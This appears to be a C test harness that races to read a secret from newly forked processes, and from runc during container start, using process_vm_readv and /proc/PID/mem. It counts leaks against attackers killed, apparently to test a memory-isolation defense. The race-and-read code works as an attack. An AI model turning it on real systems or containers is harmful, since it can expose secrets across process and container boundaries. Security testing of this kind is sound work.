/*
 * A race for a new process: it is in the table of pids, with a copy of its parent's secret, before it
 * has run for the first time.
 *
 *   race breed                         tells where the secret is, then forks children that end at once
 *   race guess ADDRESS SECONDS MOST    attackers, one after the other, read from the pid that comes next
 *
 * An attacker ends with its first success or its death.  The parent, which shares a page with each,
 * tells {"attackers", "killed", "leaked"} after SECONDS or after MOST of them were killed or got it.
 *
 *   race hold                          tells where the secret is as victim.c does, and keeps it
 *   race start ADDRESS MARK            attackers read from each process that starts, until input ends
 *
 * The last is for containers: an attacker looks for the secret at ADDRESS, which only the program that the
 * container runs has, and for MARK in the heap of runc before that program is executed.  It tells
 * {"attackers", "killed", "leaked", "before"}; the last counts the tasks of runc that MARK was found in.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define SECRET "a secret of the parent"
#define GUESSES 100000
#define LOOKS 2000
#define AT_ONCE 3
#define WINDOW 48
#define GO_HEAP ((uintptr_t)0xc000000000ULL) /* where a Go program's begins */
#define GO_HEAP_SIZE (4UL << 20)

static char secret[sizeof(SECRET)];

static void breed(void)
{
	/* Written at run time: the attacker, the same program, does not have it. */
	memcpy(secret, SECRET, sizeof(SECRET));
	printf("%p\n", (void *)secret);
	fflush(stdout);
	for (;;) {
		pid_t child = fork();

		if (!child)
			_exit(0);
		waitpid(child, NULL, 0);
	}
}

/* The pid that was given out last: the last word of /proc/loadavg. */
static pid_t last_pid(int loadavg)
{
	char text[128];
	ssize_t size = pread(loadavg, text, sizeof(text) - 1, 0);

	if (size <= 0)
		_exit(1);
	text[size] = 0;
	return atoi(strrchr(text, ' ') + 1);
}

static void guess(void *address, char *shared)
{
	struct iovec local = { shared, sizeof(SECRET) };
	struct iovec remote = { address, sizeof(SECRET) };
	int loadavg = open("/proc/loadavg", O_RDONLY);

	for (int i = 0; i < GUESSES; i++) {
		pid_t last = last_pid(loadavg);

		for (pid_t next = last + 1; next <= last + 2; next++) {
			process_vm_readv(next, &local, 1, &remote, 1, 0);
			if (!strcmp(shared, SECRET))
				_exit(0);
		}
	}
	_exit(0);
}

static void guess_all(void *address, int seconds, int most)
{
	char *shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	int attackers = 0, killed = 0, leaked = 0, status;
	time_t end = time(NULL) + seconds;

	while (time(NULL) < end && killed + leaked < most) {
		pid_t attacker;

		memset(shared, 0, sizeof(SECRET));
		attacker = fork();
		if (!attacker)
			guess(address, shared);
		waitpid(attacker, &status, 0);
		attackers++;
		killed += WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL;
		leaked += !strcmp(shared, SECRET);
	}
	printf("{\"attackers\": %d, \"killed\": %d, \"leaked\": %d}\n", attackers, killed, leaked);
}

static void hold(void)
{
	memcpy(secret, SECRET, sizeof(SECRET));
	printf("{\"answer\": \"ready\", \"pid\": %d, \"tid\": %d, \"address\": %lu, "
	       "\"scratch_address\": 0, \"fd\": -1, \"secret\": \"%s\"}\n",
	       getpid(), getpid(), (unsigned long)secret, SECRET);
	fflush(stdout);
	while (getchar() != EOF)
		;
}

/* What attackers share with their parent. */
struct loot {
	char secret[AT_ONCE][sizeof(SECRET)];
	volatile int before;
	volatile pid_t seen;
};

static int is_runc_in_a_container(pid_t pid)
{
	char path[64], comm[16] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	if (read(fd, comm, sizeof(comm) - 1) < 0)
		comm[0] = 0;
	close(fd);
	return !strcmp(comm, "runc:[2:INIT]\n");
}

static void read_by_file(pid_t pid, void *address, char *to)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	if (pread(fd, to, sizeof(SECRET), (off_t)(uintptr_t)address) < 0)
		to[0] = 0;
	close(fd);
}

static void read_by_call(pid_t pid, void *address, char *to)
{
	struct iovec local = { to, sizeof(SECRET) };
	struct iovec remote = { address, sizeof(SECRET) };

	process_vm_readv(pid, &local, 1, &remote, 1, 0);
}

static void look_before(pid_t pid, const char *mark, struct loot *loot)
{
	static char heap[GO_HEAP_SIZE];
	struct iovec copy = { heap, sizeof(heap) };
	struct iovec original = { (void *)GO_HEAP, sizeof(heap) };
	ssize_t size;

	if (pid <= loot->seen || !is_runc_in_a_container(pid))
		return;
	size = process_vm_readv(pid, &copy, 1, &original, 1, 0);
	if (size <= 0 || !memmem(heap, (size_t)size, mark, strlen(mark)))
		return;
	loot->seen = pid;
	loot->before++;
}

/* One attacker for each way to the secret, and one for what is there before. */
static void watch_starts(void *address, const char *mark, struct loot *loot, int number)
{
	int loadavg = open("/proc/loadavg", O_RDONLY);
	char *to = loot->secret[number];

	for (int i = 0; i < LOOKS; i++) {
		pid_t last = last_pid(loadavg);

		/* Threads have numbers, too, and runc starts many. */
		for (pid_t pid = last + 1; pid > 1 && pid > last - WINDOW; pid--) {
			if (pid == getpid() || pid == getppid())
				continue;
			if (number == 0)
				read_by_call(pid, address, to);
			else if (number == 1)
				read_by_file(pid, address, to);
			else
				look_before(pid, mark, loot);
			if (!strcmp(to, SECRET))
				_exit(0);
		}
	}
	_exit(0);
}

static void watch_all_starts(void *address, const char *mark)
{
	struct loot *loot = mmap(NULL, sizeof(*loot), PROT_READ | PROT_WRITE,
				 MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	struct pollfd input = { .fd = STDIN_FILENO, .events = POLLIN };
	int attackers = 0, killed = 0, leaked = 0, status;
	pid_t running[AT_ONCE] = {};

	while (!poll(&input, 1, 0)) {
		pid_t gone;

		for (int i = 0; i < AT_ONCE; i++) {
			if (running[i])
				continue;
			memset(loot->secret[i], 0, sizeof(SECRET));
			running[i] = fork();
			if (!running[i])
				watch_starts(address, mark, loot, i);
			attackers++;
		}
		gone = waitpid(-1, &status, 0);
		for (int i = 0; i < AT_ONCE; i++) {
			if (running[i] != gone)
				continue;
			running[i] = 0;
			killed += WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL;
			leaked += !strcmp(loot->secret[i], SECRET);
		}
	}
	for (int i = 0; i < AT_ONCE; i++)
		if (running[i])
			kill(running[i], SIGTERM);
	printf("{\"attackers\": %d, \"killed\": %d, \"leaked\": %d, \"before\": %d}\n", attackers,
	       killed, leaked, loot->before);
}

int main(int argc, char **argv)
{
	if (argc == 2 && !strcmp(argv[1], "breed"))
		breed();
	if (argc == 5 && !strcmp(argv[1], "guess"))
		guess_all((void *)strtoul(argv[2], NULL, 16), atoi(argv[3]), atoi(argv[4]));
	if (argc == 2 && !strcmp(argv[1], "hold"))
		hold();
	if (argc == 4 && !strcmp(argv[1], "start"))
		watch_all_starts((void *)strtoul(argv[2], NULL, 10), argv[3]);
	return 0;
}
